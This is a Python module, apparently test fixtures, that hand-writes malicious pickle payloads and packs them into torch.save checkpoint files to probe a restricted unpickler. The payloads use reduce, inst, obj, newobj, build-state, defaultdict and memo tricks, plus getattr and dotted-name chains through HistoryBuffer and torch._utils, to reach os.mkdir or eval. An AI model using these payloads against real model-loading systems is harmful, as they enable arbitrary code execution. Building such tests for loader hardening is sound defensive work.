"""Pickles written by hand, an operation at a time."""

import io
import pickle
import zipfile
from pathlib import Path

import torch

HISTORY = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
GETATTR = b'c__builtin__\ngetattr\n'


def text(value: str) -> bytes:
    """A string."""
    data = value.encode()
    return pickle.BINUNICODE + len(data).to_bytes(4, 'little') + data


def call(function: bytes, *args: bytes) -> bytes:
    """A pickle that calls ``function`` with ``args``."""
    return function + b'(' + b''.join(args) + b'tR'


def of_getattr(name: str, owner: bytes = HISTORY) -> bytes:
    """``getattr(owner, name)``."""
    return call(GETATTR, owner, text(name))


def _named(module: str, name: str) -> bytes:
    """``module.name`` in the fourth protocol, where names have dots."""
    parts = (module.encode(), name.encode())
    return b'\x80\x04' + b''.join(b'\x8c' + bytes([len(x)]) + x for x in parts) + b'\x93'


def allow_all(path: str) -> dict[str, bytes]:
    """Attacks on a reader without any list: they make the folder ``path``."""
    mkdir, place = b'cos\nmkdir\n', text(path)
    code = text(f'__import__("os").mkdir({path!r})')
    lazy = mkdir + b'](' + place + b'e\x86'  # arguments of map()
    partial = b'cfunctools\npartial\n'
    return {
        'reduce': call(mkdir, place) + b'.',
        'its platform name': call(b'cposix\nmkdir\n', place) + b'.',
        'inst': b'(' + place + b'ios\nmkdir\n.',
        'obj': b'(' + mkdir + place + b'o.',
        'eval': call(b'c__builtin__\neval\n', code) + b'.',
        'newobj': call(b'cbuiltins\nset\n', b'cbuiltins\nmap\n' + lazy + b'\x81') + b'.',
        'newobj with names': b'\x80\x04' + call(
            b'cbuiltins\nset\n', b'cbuiltins\nmap\n' + lazy + b'}\x92'
        ) + b'.',
        'state': call(partial + mkdir + b'\x85\x81(' + mkdir + place + b'\x85}}tb') + b'.',
        'default of a dict': call(
            of_getattr(
                '__missing__', call(b'ccollections\ndefaultdict\n', call(partial, mkdir, place))
            ),
            b'K\x01',
        ) + b'.',
        'append to anything': b'ctypes\nSimpleNamespace\n)R}' + text('append') + mkdir + b'sb'
        + place + b'a.',
        'a module in a module': call(_named('posixpath', 'os.mkdir'), place) + b'.',
        'memo': mkdir + b'q\x05]h\x05' + place + b'\x85Ra.',
    }  # fmt: skip


def folder_makers(path: str) -> dict[str, bytes]:
    """These, and those that pass lists that match too much or let attributes be reached."""
    code = text(f'__import__("os").mkdir({path!r})')
    attribute, init = of_getattr('__getattribute__'), of_getattr('__init__')
    builtins = call(
        call(attribute, call(attribute, init, text('__globals__')), text('get')),
        text('__builtins__'),
    )
    found = call(call(attribute, builtins, text('get')), text('eval'))
    dotted = '_rebuild_tensor_v2.__builtins__.get'
    return {
        **allow_all(path),
        'attributes of a log buffer': call(found, code) + b'.',
        'dots behind a prefix': call(
            call(_named('torch._utils', dotted), text('eval')), code
        ) + b'.',
        'dots in the oldest form': b'\x80\x04' + call(
            call(f'ctorch._utils\n{dotted}\n'.encode(), text('eval')), code
        ) + b'.',
    }  # fmt: skip


def write_archive(path: Path, data: bytes) -> Path:
    """A file of `torch.save` whose pickle is ``data``."""
    good = io.BytesIO()
    torch.save({}, good)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, 'w') as target:
        for name in source.namelist():
            target.writestr(name, data if name.endswith('data.pkl') else source.read(name))
    return path
